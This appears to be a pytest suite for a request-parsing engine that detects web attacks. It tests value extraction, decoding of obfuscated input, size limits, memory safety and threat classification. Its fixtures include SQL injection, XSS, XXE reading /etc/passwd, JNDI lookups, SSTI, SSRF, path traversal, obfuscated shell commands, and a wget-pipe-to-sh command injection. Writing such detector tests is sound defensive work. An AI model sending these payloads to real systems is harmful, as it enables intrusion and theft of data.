"""Requests are taken apart rightly, whatever they hold: places, limits, hostile input."""

from __future__ import annotations

import base64
import ctypes
import json
import mmap
import random
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from native import text as core

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
XML = {"content-type": "application/xml"}


def places(record: dict[str, Any]) -> dict[str, list[str]]:
    """place -> the folded windows found there, without their marks."""
    out: dict[str, list[str]] = {}
    for place, window in core.TextHost(None).values(record):
        out.setdefault(place, []).append(window.decode("latin-1").strip("\x02\x03"))
    return out


def post(body: str | bytes, headers: dict[str, str]) -> dict[str, Any]:
    if isinstance(body, bytes):
        return {
            "method": "POST",
            "url": "/",
            "headers": headers,
            "body": base64.b64encode(body).decode(),
            "body_enc": "b64",
        }
    return {"method": "POST", "url": "/", "headers": headers, "body": body}


MULTIPART = (
    '--X\r\nContent-Disposition: form-data; name="note"\r\n\r\nit\'s\r\n--X\r\nContent-Disposition: '
    'form-data; name="f"; filename="a<b>.txt"\r\nContent-Type: text/plain\r\n\r\nin a file\r\n--X--\r\n'
)
SOAP = '<?xml version="1.0"?><a><b id="it\'s">x &lt; y</b><c><![CDATA[<z>]]></c><!-- odd; --></a>'
CASES = [
    ("path", {"url": "/a/b/c"}, "/a/b/c"),
    ("path[2]", {"url": "/a/b/c%27x/d"}, "c'x"),
    (
        "path[0]",
        {"url": "/" + base64.b64encode(b"<script>alert(1)</script>").decode()},
        "<script>alert(1)</script>",
    ),
    ("query.q", {"url": "/?p=1&q=A%2BB+c"}, "a+b c"),
    ("query.x[$ne]", {"url": "/?x[$ne]=1"}, "x[$ne]"),
    ("query", {"url": "/?id'--"}, "id'--"),
    ("query.f.a", {"url": "/?f=%7B%22a%22%3A%22x%27y%22%7D"}, "x'y"),
    ("json.user.name", post('{"user": {"name": "O\\u0027Neil"}}', JSON), "o'neil"),
    ("json.a[1].b", post('{"a": [1, {"b": "x y"}]}', JSON), "x y"),
    ("json.in.deep", post('{"in": "{\\"deep\\": \\"it\'s\\"}"}', JSON), "it's"),
    ("json.query.graphql", post('{"query": "{ user(id: \\"1\' or 1\\") { id } }"}', JSON), "1' or 1"),
    ("json.$where", post('{"$where": 1}', JSON), "$where"),
    ("json[0]", post('["x y"', {}), "x y"),
    ("form.x", post("x=a%26b&y=2", FORM), "a&b"),
    ("form.note", post(MULTIPART, {"content-type": "multipart/form-data; boundary=X"}), "it's"),
    ("form.note", post(MULTIPART, FORM), "it's"),
    ("form.f.filename", post(MULTIPART, {"content-type": 'multipart/form-data; boundary="X"'}), "a<b>.txt"),
    ("form.f", post(MULTIPART, {"content-type": "multipart/form-data; boundary=X"}), "in a file"),
    ("xml.a.b", post(SOAP, XML), "x < y"),
    ("xml.a.b.@id", post(SOAP, XML), "it's"),
    ("xml.a.c", post(SOAP, XML), "<z>"),
    ("xml.a", post(SOAP, XML), " odd; "),
    (
        "xml.doctype",
        post('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', XML),
        '<!doctype r [<!entity x system "file:///etc/passwd">]',
    ),
    ("cookie.pref", {"url": "/", "headers": {"cookie": "sid=abc; pref=a'b"}}, "a'b"),
    ("header.user-agent", {"url": "/", "headers": {"User-Agent": "Curl (X)"}}, "curl (x)"),
    ("header.referer.q", {"url": "/", "headers": {"referer": "https://h.test/p?q=%3Cb%3E"}}, "<b>"),
    ("header.x-api-version", {"url": "/", "headers": {"x-api-version": "${jndi:x}"}}, "${jndi:x}"),
    ("header.accept", {"url": "/", "headers": {"accept": "*/*;${x}"}}, "*/*;${x}"),
    (
        "query.u",
        {"url": "/?u=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D"},
        "<script>alert(1)</script>",
    ),
    ("body", post("just some text", {"content-type": "text/plain"}), "just some text"),
    (
        "json.a",
        post(base64.b64encode(b'{"a": "some text which is long enough"}').decode(), {}),
        "some text which is long enough",
    ),
]


@pytest.mark.parametrize(("place", "record", "text"), CASES, ids=[f"{k}-{c[0]}" for k, c in enumerate(CASES)])
def test_place(place: str, record: dict[str, Any], text: str) -> None:
    assert text in places({"method": "GET", **record}).get(place, [])


@pytest.mark.parametrize(
    "text",
    [
        "%2527%20or",
        "&amp;lt;script&amp;gt;",
        "\\u003cscript",
        "%253Cscript%253E",
        "%u003cscript",
        "&#x26;#60;script",
    ],
)
def test_nested_encodings_are_undone(text: str) -> None:
    seen = places({"method": "GET", "url": f"/?q={text.replace('&', '%26').replace('#', '%23')}"})["query.q"][
        0
    ]
    assert "'" in seen or "<script" in seen


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("un/**/ion/*x*/select", "un ion select"),
        ("c''at /etc/p\"\"asswd", "cat /etc/passwd"),
        ("w\\hoami", "whoami"),
        ("cat${IFS}/etc/x", "cat /etc/x"),
        ("cat$IFS$9/etc/x", "cat /etc/x"),
        ("'sel'+'ect'", "'select'"),
        ("who$@ami", "whoami"),
        ("/*!50000union*/ select", " union select"),
        ("n^e^t user", "net user"),
    ],
)
def test_what_interpreters_ignore_is_stripped(text: str, plain: str) -> None:
    assert core.strip(core.fold(text.encode())).decode() == plain


def test_headers_of_fixed_shape_cost_nothing_until_they_are_odd() -> None:
    plain = {
        "host": "api.test:8080",
        "accept": "text/html, */*;q=0.8",
        "authorization": "Bearer abc.def-g_h",
        "content-type": "text/plain; charset=utf-8",
        "x-request-id": "0af7651916cd43dd",
        "accept-language": "en;q=0.9",
    }
    assert set(places({"method": "GET", "url": "/", "headers": plain})) == {"path"}
    odd = {name: value + "'<" for name, value in plain.items()}
    assert set(places({"method": "GET", "url": "/", "headers": odd})) == {"path"} | {
        f"header.{n}" for n in odd
    }


def test_only_chosen_headers_are_read() -> None:
    record = {"method": "GET", "url": "/", "headers": {"x-a": "it's", "x-b": "it's", "cookie": "a=it's"}}
    host = core.TextHost(None, headers=["X-A"])
    assert {p for p, _ in host.values(record)} == {"path", "header.x-a"}


@pytest.fixture(scope="module")
def host() -> core.TextHost:
    rng = np.random.default_rng(3)
    return core.TextHost(
        core.weights_bytes(rng.normal(size=core.N_TRIGRAMS), rng.normal(size=core.N_TOKEN_GRAMS), 0.0)
    )


def test_a_remembered_header_changes_nothing(host: core.TextHost) -> None:
    agents = [f"Mozilla/5.0 (X11; {k}) '{'<' * (k % 5)}" for k in range(40)]
    records = [
        {"method": "GET", "url": f"/{k % 7}", "headers": {"user-agent": a, "x-b": a}}
        for k, a in enumerate(agents + agents[::-1] + agents)
    ]
    first = host.score_all(records)
    again = host.score_all(records)
    alone = [core.TextHost(host.weights).explain(r)["linear"] for r in records]
    assert np.array_equal(first[0], again[0])
    assert np.allclose(first[1], alone, atol=0)


def test_padding_does_not_hide_a_payload() -> None:
    """The payload's window is read wherever filler puts it, up to the limits."""
    payload = "1' union select password from users--"
    rng = random.Random(5)
    for n in (0, 100, 5000, 20000, 30000):
        for filler in ("A" * n, "".join(rng.choices("abcdefgh 0123456789", k=n))):
            for body in (f"x={filler}{payload}", f"x={payload}{filler}", f"x={filler}{payload}{filler[:99]}"):
                windows = places(post(body, FORM))["form.x"]
                assert any("union select" in w for w in windows), (n, filler[:3])


def test_repeating_filler_is_read_once() -> None:
    assert core.TextHost(None).explain(post("x=" + "A" * 60000, FORM))["n_windows"] < 40


def test_limits_are_kept_and_told() -> None:
    many = post(json.dumps([f"value {k}" for k in range(2000)]), JSON)
    e = core.TextHost(None).explain(many)
    assert e["cut"]
    assert e["n_values"] <= 256
    e = core.TextHost(None, body_bytes_max=100).explain(many)
    assert e["cut"]
    assert e["n_values"] < 12
    text = "".join(random.Random(1).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=60000))
    e = core.TextHost(None, windows_max=50).explain(post("x=" + text, FORM))
    assert e["cut"]
    assert e["n_windows"] == 50
    assert not core.TextHost(None).explain({"method": "GET", "url": "/a?b=c"})["cut"]


def test_a_passed_deadline_ends_the_work() -> None:
    many = post(json.dumps([f"value {k}" for k in range(200)]), JSON)
    e = core.TextHost(None).explain(many, deadline_ns=1)
    assert e["overrun"]
    assert e["n_windows"] <= 4
    assert not core.TextHost(None).explain(many, deadline_ns=2**62)["overrun"]


def test_login_forms_are_recognised() -> None:
    def key(record: dict[str, Any]) -> int:
        found: int = core.TextHost(None).explain(record)["login_key"]
        return found

    form = key(post("username=alice&password=x", FORM))
    assert form
    assert form == key(post('{"password": "y", "username": "alice"}', JSON))
    assert form != key(post("username=bob&password=x", FORM))
    assert key(post("username=alice&color=red", FORM)) == 0
    assert key({"method": "GET", "url": "/?username=alice&password=x"}) == 0


def test_nothing_to_score_is_nan() -> None:
    features, linear = core.TextHost(None).score_all([{"method": "GET", "url": ""}])
    assert np.isnan(features).all()
    assert np.isnan(linear).all()


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000,
        '{"a":' * 20_000,
        '{"a":[' * 10_000 + '"deep"',
        '"' * 50_000,
        "\\" * 50_000,
        '{"' + "\\u" * 30_000,
        "<a>" * 20_000,
        "<a " * 20_000,
        "<!" * 30_000,
        "<![CDATA[" * 5_000,
        "&" * 60_000,
        "=" * 60_000,
        "%" * 60_000,
        "\x00" * 60_000,
        "--X\r\n" * 10_000,
        "<!--" * 10_000,
        "{}" * 30_000,
        "]" * 60_000,
        "$" * 60_000,
        "''" * 30_000,
        "",
    ],
)
@pytest.mark.parametrize(
    "kind",
    [
        "application/json",
        "application/xml",
        "multipart/form-data; boundary=X",
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/graphql",
        "",
    ],
)
def test_deep_and_huge_bodies(host: core.TextHost, body: str, kind: str) -> None:
    e = host.explain(post(body, {"content-type": kind}))
    assert e["n_windows"] <= 512
    assert e["n_values"] <= 256


class Guarded:
    """Memory that ends where a protected page begins: one byte read beyond is a crash."""

    def __init__(self, room: int = 1 << 17) -> None:
        page = mmap.PAGESIZE
        self.room = room
        self.map = mmap.mmap(-1, room + page)
        base = ctypes.addressof(ctypes.c_char.from_buffer(self.map))
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.mprotect(ctypes.c_void_p(base + room), ctypes.c_size_t(page), 0):
            raise OSError(ctypes.get_errno(), "mprotect")
        self.end = base + room

    def put(self, data: bytes) -> int:
        """Address of a copy that ends at the page."""
        self.map[self.room - len(data) : self.room] = data
        return self.end - len(data)


@pytest.fixture(scope="module")
def guarded() -> Guarded:
    return Guarded()


SHARDS = [
    b"%",
    b"%2",
    b"%u00",
    b"&",
    b"&#",
    b"&#x",
    b"&l",
    b"\\",
    b"\\u",
    b"\\u00",
    b"\\u{",
    b"\\x",
    b"\xc0",
    b"\xe0\x80",
    b"\xef\xbc",
    b'"',
    b'{"',
    b'{"a',
    b'{"a"',
    b'{"a":',
    b"[",
    b'["\\',
    b"<",
    b"<a",
    b"<a b",
    b"<a b=",
    b"<a b='",
    b"<!",
    b"<!-",
    b"<!--",
    b"<![CDATA[",
    b"<?",
    b"<?xml",
    b"</",
    b"--X",
    b"--X\r\n",
    b"/*",
    b"/*!",
    b"''",
    b"$IFS",
    b"${IFS",
    b"a=",
    b"&&",
    b";",
    b"a; b",
    b"http://",
    b"https://h?",
    b"query{",
    b'{a(b:"',
    b'"""',
    b"\xef\xbb\xbf",
    b"YWJjZGVmZ2hpamtsbW5v",
    b"%7B%22a",
    b"\x00",
    b"'+",
    b"true",
    b"nul",
    b"-1e",
    b"\n",
    b" ",
]
TYPES = [
    b"",
    b"application/json",
    b"text/xml",
    b"multipart/form-data; boundary=X",
    b"application/graphql",
    b"application/x-www-form-urlencoded",
    b'multipart/form-data; boundary="',
]


@settings(max_examples=1500, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(SHARDS), st.binary(max_size=5)), min_size=1, max_size=30).map(
        b"".join
    ),
    st.sampled_from(["path", "query", "body", "cookie", "referer", "user-agent", "x-any"]),
    st.sampled_from(TYPES),
)
def test_no_byte_is_read_beyond_the_input(guarded: Guarded, data: bytes, part: str, kind: bytes) -> None:
    e = core.TextHost(None).score_at(part, guarded.put(data), len(data), kind)
    assert e["n_windows"] <= 512


@pytest.mark.parametrize("shard", SHARDS)
def test_long_input_against_a_protected_page(guarded: Guarded, shard: bytes) -> None:
    data = (shard * 70_000)[: 65_536 + len(shard)]
    for part, kind in (
        ("body", b""),
        ("body", b"application/json"),
        ("body", b"text/xml"),
        ("query", b""),
        ("path", b""),
        ("cookie", b""),
    ):
        assert core.TextHost(None).score_at(part, guarded.put(data), len(data), kind)["n_windows"] <= 512


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "size"),
        (b"x" * 100, "size"),
        (b"NOTLINEAR".ljust(64 + 65536 + 16384, b"\0"), "no weights file"),
    ],
)
def test_bad_weights_are_refused(data: bytes, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        core.TextHost(data)


def test_weights_of_another_version_or_schema_are_refused() -> None:
    good = core.weights_bytes(np.zeros(core.N_TRIGRAMS), np.zeros(core.N_TOKEN_GRAMS), 0.0)
    for offset, value, why in (
        (8, 99, "version"),
        (12, 99, "schema"),
        (16, 0x7FC00000, "finite"),
        (24, 0x7F800000, "finite"),
    ):
        bad = good[:offset] + value.to_bytes(4, "little") + good[offset + 4 :]
        with pytest.raises(ValueError, match=why):
            core.TextHost(bad)
    with pytest.raises(ValueError, match="finite"):
        core.weights_bytes(np.full(core.N_TRIGRAMS, np.nan), np.zeros(core.N_TOKEN_GRAMS), 0.0)


def test_weights_survive_a_file(tmp_path: Any) -> None:
    rng = np.random.default_rng(2)
    core.write_weights(
        tmp_path / "linear.bin", rng.normal(size=core.N_TRIGRAMS), rng.normal(size=core.N_TOKEN_GRAMS), 1.5
    )
    record = {"method": "GET", "url": "/?q=hello"}
    a = core.TextHost(tmp_path / "linear.bin").explain(record)
    b = core.TextHost((tmp_path / "linear.bin").read_bytes()).explain(record)
    assert a == b
    assert core.read_weights(tmp_path / "linear.bin")["bias"] == 1.5


@pytest.mark.parametrize(
    ("url", "threat"),
    [
        ("/?q=1'+union+select+password+from+users--", "sql_injection"),
        ("/?q=<script>alert(document.cookie)</script>", "cross_site_scripting"),
        ("/?f=../../../../etc/passwd", "path_traversal"),
        ("/?h=;wget+http://x.test/a|sh", "command_injection"),
        ("/?h=${jndi:ldap://x.test/a}", "code_injection"),
        ("/?h=x%0d%0aSet-Cookie:+a=b", "header_injection"),
        ("/?h={{7*7}}{{config.__class__}}", "code_injection"),
        ("/?u=*)(uid=*))(|(uid=*", "ldap_injection"),
        ("/?u=http://localhost:80/metadata/internal", "server_side_request"),
        ("/?x={$where:+'1'}", "nosql_injection"),
        ('/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+"file:///etc/passwd">]>', "xml_injection"),
    ],
)
def test_the_threat_is_named(url: str, threat: str) -> None:
    assert (
        core.TextHost(None, headers=[]).explain({"method": "GET", "url": url.replace("/?", "?", 1)})[
            "threat_name"
        ]
        == threat
    )
